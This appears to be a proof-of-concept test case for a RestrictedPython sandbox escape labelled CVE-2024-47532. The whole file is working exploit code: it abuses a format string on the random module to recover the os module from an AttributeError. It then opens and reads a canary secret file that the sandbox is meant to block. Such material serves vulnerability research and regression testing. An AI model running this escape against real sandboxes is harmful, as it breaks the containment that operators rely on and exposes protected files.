# source: RestrictedPython CVE-2024-47532
# effect: secret

import random

try:
    "{0._os.missing}".format(random)
except AttributeError as error:
    module = error.obj
print(module.fdopen(module.open("/tmp/canary/secret", module.O_RDONLY)).read())
